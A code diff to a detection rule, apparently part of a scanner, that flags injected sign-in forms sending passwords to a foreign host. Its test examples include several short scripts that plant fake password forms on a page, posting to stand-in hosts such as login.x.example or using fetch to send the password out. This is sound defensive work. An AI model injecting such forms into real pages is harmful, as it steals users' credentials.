@@ -17,6 +17,9 @@ import type { SinkKind, SourceKind } from '../../taint/kinds.ts';
 import type { Facts } from '../../facts.ts';
 import { defineRule, type Hit } from '../../rule.ts';
 import { checkScripts, contentExample, type Judged } from './checkScripts.ts';
+import { elementsPut } from './elementsPut.ts';
+import { markups } from './markups.ts';
+import { isStrangers } from './isStrangers.ts';
 import { mentions, textsOf } from './textsOf.ts';
 import { functionAt } from '../../program/functionAt.ts';
 import { runsInPages } from './places.ts';
@@ -53,9 +56,19 @@ export const signInFormInPage = defineRule({
     if (made !== 0 && typedTo(facts, script, 'network', 'message'))
       yield hit(made, { severity: 'high', confidence: 'high', message: say('claims-sign-in-sends') });
     if (mentions(script, PASSWORD)) yield* inMarkup({ script, facts, hit });
+    yield* sentAway({ script, facts, hit });
   }),
   examples: {
     bad: [
+      contentExample(
+        'const f = document.createElement("form"); f.setAttribute("action", "https://login.x.example/p"); const i = document.createElement("input"); i.type = "password"; f.append(i); document.body.append(f);',
+      ),
+      contentExample(
+        'const h = (tag, given, ...inner) => { const e = Object.assign(document.createElement(tag), given); e.append(...inner); return e; }; document.body.append(h("form", { action: "https://login.x.example/p", method: "post" }, h("input", { type: "password", name: "p" })));',
+      ),
+      contentExample(
+        'const to = "https://login.x.example/p"; document.body.insertAdjacentHTML("beforeend", `<form action="${to}" method=post><input name=u><input type=password name=p></form>`);',
+      ),
       contentExample(
         'const f = document.createElement("form"); const t = document.createElement("h2"); t.textContent = "Your session has expired"; const p = document.createElement("input"); p.type = "password"; f.append(t, p); document.body.append(f); f.onsubmit = () => fetch("https://verify.example/a", { method: "POST", body: p.value });',
       ),
@@ -98,6 +111,25 @@ export const signInFormInPage = defineRule({
     ],
   },
 });
+
+/** A form with a field for a password whose own address is that of somebody else. */
+function* sentAway({ script, facts, hit }: Pick<Judged, 'script' | 'facts' | 'hit'>): Generator<Hit> {
+  const put = elementsPut(script);
+  const asks = put.some(({ tag, attributes }) => tag === 'input' && attributes.get('type') === 'password');
+  if (!asks) return;
+  for (const { tag, attributes, value, around } of put) {
+    const to = attributes.get('action') ?? attributes.get('formaction') ?? '';
+    if ((tag !== 'form' && tag !== 'button' && tag !== 'input') || !isStrangers(facts, to)) continue;
+    if (around !== '' && !PASSWORD.test(around)) continue;
+    yield hit(value, {
+      severity: 'critical',
+      confidence: 'high',
+      evidence: to,
+      message: say('form-sent-away', to.slice(0, 120)),
+    });
+    return;
+  }
+}
 
 /** Such a form as markup. */
 function* inMarkup({ script, facts, hit }: Pick<Judged, 'script' | 'facts' | 'hit'>): Generator<Hit> {
@@ -172,14 +204,4 @@ function emptiesPage(script: ScriptFacts): boolean {
       (write) => PAGE.test(apiPath(script, write.object) ?? '') && constant(script, write.value) === '',
     )
   );
-}
-
-/** Markup that is put into the page, and whether it takes the page's place. */
-function* markups(script: ScriptFacts): Generator<{ value: number; replaces: boolean }> {
-  for (const write of writesOf(script, 'innerHTML', 'outerHTML', 'srcdoc'))
-    yield { value: write.value, replaces: PAGE.test(apiPath(script, write.object) ?? '') };
-  for (const call of callsNamed(script, 'insertAdjacentHTML')) yield { value: call.args[1] ?? 0, replaces: false };
-  for (const call of callsNamed(script, 'append', 'prepend', 'html', 'createContextualFragment', 'parseFromString'))
-    yield { value: call.args[0] ?? 0, replaces: false };
-  for (const call of callsOf(script, 'document.write')) yield { value: call.args[0] ?? 0, replaces: true };
 }
